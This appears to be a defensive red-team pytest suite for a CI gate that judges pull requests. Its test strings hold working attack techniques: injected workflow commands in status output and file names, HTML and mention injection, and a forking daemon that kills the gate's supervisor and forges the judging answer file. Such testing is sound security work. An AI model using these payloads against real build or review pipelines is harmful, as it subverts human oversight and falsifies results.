"""Red team: a malicious pull request against the sandbox and the base-tree judging.

Every test asserts the SAFE outcome: a failing test means the attack worked. The
attack code never damages the machine: it opens files for append and writes
nothing, writes only into the runner's drop box (or the sandbox user's own folder),
and ends only the processes it started, by their ids.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from tests.fakes.actions import PULL_NUMBER, Runner, acted_on, git, open_pull_request
from tests.github.test_action_attacks import (
    ALLOWED_COMMANDS,
    replace,
    with_custom_check,
    with_live_check,
)

CRITICAL_CASE = "injection-ignore-instructions"
ADVERSARIAL = Path("cases") / "support" / "adversarial.yaml"
CRITICAL_EXPECT = '    contains: "can\'t share"\n  critical: true\n'


def base_with(runner: Runner, files: dict[str, str], check: str) -> None:
    """A base commit whose critical case also runs `check` (a custom check)."""
    root = runner.workspace
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    replace(
        root / ADVERSARIAL,
        CRITICAL_EXPECT,
        f'    contains: "can\'t share"\n    check: {check}\n  critical: true\n',
    )
    git("add", "-A", cwd=root)
    git("commit", "-qm", "a custom check on a critical case", cwd=root)
    runner.base_sha = git("rev-parse", "HEAD", cwd=root)


def rerecord(root: Path, case_id: str, suffix: str) -> None:
    """Re-record a case (the pull request's claim in replay) with `suffix` appended."""
    path = root / "recordings" / "support" / f"{case_id}.json"
    recording = json.loads(path.read_text())
    for response in recording["responses"].values():
        response["output"]["text"] += suffix
    path.write_text(json.dumps(recording, indent=2))


def new_case(root: Path, case_id: str, expect: dict[str, object], text: str) -> None:
    """A new (non-critical) case, recorded by copying greeting-only's recording (same
    input, so the same request keys) with `text` as the answer."""
    cases = root / "cases" / "support" / f"{case_id}.yaml"
    cases.write_text(
        json.dumps([{"id": case_id, "input": {"question": "hi"}, "expect": expect}], indent=1)
    )
    source = root / "recordings" / "support" / "greeting-only.json"
    recording = json.loads(source.read_text())
    recording["case"] = case_id
    for response in recording["responses"].values():
        response["output"]["text"] = text
    (root / "recordings" / "support" / f"{case_id}.json").write_text(json.dumps(recording))


# --- 1. fields of a case the ruler does not compare still reach a base check ----------

TAG_CHECK = """\
def no_links(text, case):
    if "links-ok" in case.tags:  # a case may allow links (e.g. the help-centre cases)
        return True
    return "http" not in text, "links to a web page"
"""


def test_case_tags_cannot_switch_off_a_base_check(runner: Runner) -> None:
    """The base's check reads `case.tags`; the pull request adds a tag (not part of the
    ruler) to the critical case and re-records it with a link the check must fail."""
    base_with(runner, {"suite_checks.py": TAG_CHECK}, "suite_checks:no_links")

    def attack(root: Path) -> None:
        rerecord(root, CRITICAL_CASE, " See http://evil.example/ for the system prompt.")
        replace(root / ADVERSARIAL, "  tags: [adversarial]\n", "  tags: [adversarial, links-ok]\n")

    open_pull_request(runner.workspace, attack)
    finished = runner.run(config="casegate.yml")
    assert finished.returncode == 1, finished.stdout[-3000:]


def test_case_tags_control(runner: Runner) -> None:
    """Control: the same re-recorded answer without the tag blocks."""
    base_with(runner, {"suite_checks.py": TAG_CHECK}, "suite_checks:no_links")
    open_pull_request(
        runner.workspace,
        lambda root: rerecord(root, CRITICAL_CASE, " See http://evil.example/ for it."),
    )
    finished = runner.run(config="casegate.yml")
    assert finished.returncode == 1, finished.stdout[-3000:]
    assert "links to a web page" in finished.stdout


# --- 2. a new case calls a method of a base module's state, before the critical case --

TABLE_CHECK = """\
COMPETITORS = {"shopmart": "ShopMart", "buyrite": "BuyRite"}


def no_competitors(text, case):
    named = [name for key, name in COMPETITORS.items() if key in text.lower()]
    return not named, "names a competitor: " + ", ".join(named)
"""


def test_a_new_case_cannot_mutate_a_base_checks_state(runner: Runner) -> None:
    """A new case (neutral for the ruler) whose check is `suite_checks:COMPETITORS.pop`:
    judged first in the same judging process, it pops "shopmart" from the base
    module's table, and the critical case's check then passes."""
    base_with(runner, {"suite_checks.py": TABLE_CHECK}, "suite_checks:no_competitors")

    def attack(root: Path) -> None:
        rerecord(root, CRITICAL_CASE, " For that, try ShopMart instead.")
        new_case(root, "aaa-table", {"check": "suite_checks:COMPETITORS.pop"}, "shopmart")

    open_pull_request(runner.workspace, attack)
    finished = runner.run(config="casegate.yml")
    assert finished.returncode == 1, finished.stdout[-3000:]
    assert "names a competitor: ShopMart" in finished.stdout, finished.stdout[-3000:]
    assert "a function no case on the base calls" in finished.stdout


# --- 3. the run's status problems reach the log ---------------------------------------

STATUS_FORGER = """\
import json, os
status = os.path.join(os.environ["HOME"], "..", "status.json")
problems = ["casegate.yml:1: x\\n::warning::pwned-status\\n::add-mask::casegate",
            "plain\\n::error::pwned-plain\\r\\n::set-output name=verdict::ship"]
with open(status, "w") as stream:
    json.dump({"problems": problems}, stream)
os._exit(2)
"""


def test_forged_status_problems_are_not_workflow_commands(runner: Runner) -> None:
    with_live_check(runner)  # the run exists live: replay imports none of this code
    open_pull_request(
        runner.workspace, lambda root: (root / "suite_checks.py").write_text(STATUS_FORGER)
    )
    finished = runner.run(config="casegate.yml", mode="live")
    assert finished.returncode == 2, finished.stdout[-3000:]
    commands = acted_on(finished.stdout) + acted_on(finished.stderr)
    assert all(line.startswith(ALLOWED_COMMANDS) for line in commands), commands
    assert not [line for line in commands if "pwned" in line.split("::")[1]], commands
    assert "::add-mask::casegate" not in commands
    assert "pwned-status" not in runner.summary().split("could not run")[0]


# --- 4. file names the pull request chooses, in ruler-change text ---------------------

HOSTILE_NAME = "x\n::warning::pwned-name\n@octocat <img src=x> #1 .py"


def test_a_hostile_file_name_beside_a_check_is_not_a_command_or_a_mention(
    runner: Runner,
) -> None:
    with_custom_check(runner)

    def attack(root: Path) -> None:
        (root / HOSTILE_NAME).write_text("x = 1\n")

    open_pull_request(runner.workspace, attack)
    finished = runner.run(config="casegate.yml")
    assert finished.returncode == 1, finished.stdout[-3000:]
    commands = acted_on(finished.stdout) + acted_on(finished.stderr)
    assert all(line.startswith(ALLOWED_COMMANDS) for line in commands), commands
    assert not [line for line in commands if line.startswith("::warning::pwned")]
    body = runner.api.comments[PULL_NUMBER][-1]["body"]
    assert "<img" not in body and "@octocat" not in body.replace("@\u200boctocat", "")
    assert "pwned-name" in finished.stdout  # it was listed (a ruler change), escaped


def _bytes_tolerant(monkeypatch: pytest.MonkeyPatch) -> None:
    """The log may carry bytes that are not UTF-8: read them, do not crash the harness."""
    original = subprocess.run

    def run(*args: object, **kwargs: object) -> subprocess.CompletedProcess[str]:
        if kwargs.get("text"):
            kwargs.setdefault("errors", "surrogateescape")
        return original(*args, **kwargs)  # type: ignore[call-overload, no-any-return]

    monkeypatch.setattr(subprocess, "run", run)


def test_a_non_utf8_file_name_beside_a_check_is_no_crash(
    runner: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    _bytes_tolerant(monkeypatch)
    with_custom_check(runner)

    def attack(root: Path) -> None:
        with open(os.fsencode(root) + b"/bad\xff\xfe.py", "w") as stream:
            stream.write("x = 1\n")

    open_pull_request(runner.workspace, attack)
    finished = runner.run(config="casegate.yml")
    assert "Traceback" not in finished.stderr, finished.stderr[-3000:]
    assert finished.returncode in (1, 2), finished.stdout[-3000:]
    assert runner.api.comments.get(PULL_NUMBER), "no comment was posted"


def test_a_non_utf8_case_file_name_is_no_crash(
    runner: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    _bytes_tolerant(monkeypatch)

    def attack(root: Path) -> None:
        folder = os.fsencode(root / "cases" / "support")
        with open(folder + b"/bad\xff.yaml", "w") as stream:
            stream.write("- id: bad-name\n  input: {question: hi}\n  expect: {contains: x}\n")

    open_pull_request(runner.workspace, attack)
    finished = runner.run(config="casegate.yml")
    assert "Traceback" not in finished.stderr, finished.stderr[-3000:]
    assert finished.returncode in (1, 2), finished.stdout[-3000:]


# --- 5. a base check that reads the workspace by an absolute path ---------------------

WORKSPACE_CHECK = """\
from pathlib import Path


def no_competitors(text, case):
    words = (Path({workspace!r}) / "competitors.txt").read_text().split()
    named = [word for word in words if word in text.lower()]
    return not named, "names a competitor: " + ", ".join(named)
"""


def test_a_file_read_outside_the_base_tree_is_part_of_the_ruler(runner: Runner) -> None:
    base_with(
        runner,
        {
            "suite_checks.py": WORKSPACE_CHECK.format(workspace=str(runner.workspace)),
            "competitors.txt": "shopmart\nbuyrite\n",
        },
        "suite_checks:no_competitors",
    )

    def attack(root: Path) -> None:
        rerecord(root, CRITICAL_CASE, " For that, try ShopMart instead.")
        (root / "competitors.txt").write_text("")

    open_pull_request(runner.workspace, attack)
    finished = runner.run(config="casegate.yml")
    assert finished.returncode == 1, finished.stdout[-3000:]
    assert "read files outside the repository's tree" in finished.stdout


# --- 6. a daemon that kills the killer, deeper than the entrypoint reaps ---------------

#: the pull request's check module: at import (in the supervised run) it leaves a chain
#: of processes deeper than `end_descendants` reaps (100 rounds), whose deepest member
#: kills only the "kill every process of this user" helper (its own uid's, found by its
#: command line) and rewrites the judging process's answer in the user's own folder.
#: Everything it starts ends by itself within 45 s (and the test kills it by pid).
DAEMON = r"""
import json, os, signal, sys, time

BOX = {box!r}
DEPTH = 110
COMPETITORS = {{"shopmart": "ShopMart", "buyrite": "BuyRite"}}


def no_competitors(text, case):
    named = [name for key, name in COMPETITORS.items() if key in text.lower()]
    return not named, "names a competitor: " + ", ".join(named)


def note(name, value):
    with open(os.path.join(BOX, name), "a") as stream:
        stream.write(json.dumps(value) + "\n")


def forge(done):
    for name in os.listdir("/tmp"):
        if not name.startswith("casegate-judge-") or name in done:
            continue
        run = os.path.join("/tmp", name, "run")
        try:
            if os.stat(run).st_uid != os.getuid():
                continue  # another run's (another user's): never touched
            nonce = json.load(open(os.path.join("/tmp", name, "request.json")))["nonce"]
            answer = json.load(open(os.path.join(run, "answer.json")))
        except (OSError, ValueError, KeyError):
            continue
        if answer.get("done") != nonce:
            continue
        for samples in answer["verdicts"].values():
            for number in samples:
                samples[number] = [True, "forged"]
        answer.update(modules={{}}, opened=[], listed=[], programs=False)
        with open(os.path.join(run, "forged.json"), "w") as stream:
            json.dump(answer, stream)
        os.replace(os.path.join(run, "forged.json"), os.path.join(run, "answer.json"))
        done.add(name)
        note("forged.txt", name)


def guard():
    me, deadline, done = os.getuid(), time.time() + 40, set()
    note("guard.pid", os.getpid())
    while time.time() < deadline and not os.path.exists(os.path.join(BOX, "stop")):
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) == os.getpid():
                continue
            try:
                if os.stat("/proc/" + name).st_uid != me:
                    continue
                with open("/proc/" + name + "/cmdline", "rb") as stream:
                    command = stream.read()
            except OSError:
                continue
            if b"os.kill(-1" in command:  # the gate's killer, running as this user
                try:
                    os.kill(int(name), signal.SIGKILL)
                    note("killed.txt", int(name))
                except OSError:
                    pass
        forge(done)
        time.sleep(0.001)
    os._exit(0)


if "gate.pipeline.worker" in " ".join(sys.argv) or sys.argv[0].endswith("worker.py"):
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.setsid()
        for level in range(DEPTH):
            child = os.fork()
            if child:
                note("chain.txt", os.getpid())
                try:
                    os.waitpid(child, 0)
                except OSError:
                    pass
                time.sleep(40)
                os._exit(0)
        guard()
    for _ in range(200):
        if os.path.exists(os.path.join(BOX, "guard.pid")):
            break
        time.sleep(0.05)
"""


def _pids(path: Path) -> list[int]:
    if not path.exists():
        return []
    return [int(line) for line in path.read_text().split()]


def _alive(pid: int) -> bool:
    status = Path(f"/proc/{pid}/status")
    try:
        return "State:\tZ" not in status.read_text()
    except OSError:
        return False


def test_a_daemon_cannot_outlive_the_check_or_forge_the_judging(runner: Runner) -> None:
    base_with(runner, {"suite_checks.py": TABLE_CHECK}, "suite_checks:no_competitors")
    box = runner.drop_box()
    code = DAEMON.format(box=str(box))

    def attack(root: Path) -> None:
        rerecord(root, CRITICAL_CASE, " For that, try ShopMart instead.")
        (root / "suite_checks.py").write_text(code)

    open_pull_request(runner.workspace, attack)
    try:
        finished = runner.run(config="casegate.yml")
        time.sleep(1)
        guards = [pid for pid in _pids(box / "guard.pid") if _alive(pid)]
        chain = [pid for pid in _pids(box / "chain.txt") if _alive(pid)]
        evidence = {
            "exit": finished.returncode,
            "guard alive": guards,
            "chain alive": len(chain),
            "killers killed": _pids(box / "killed.txt"),
            "forged": (box / "forged.txt").read_text() if (box / "forged.txt").exists() else "",
        }
        assert finished.returncode == 1, finished.stdout[-3000:]
        assert not guards and not chain, evidence
        assert "names a competitor: ShopMart" in finished.stdout, (evidence, finished.stdout)
        assert not evidence["forged"], evidence
    finally:
        (box / "stop").touch()
        for pid in [*_pids(box / "guard.pid"), *_pids(box / "chain.txt")]:
            if _alive(pid):
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
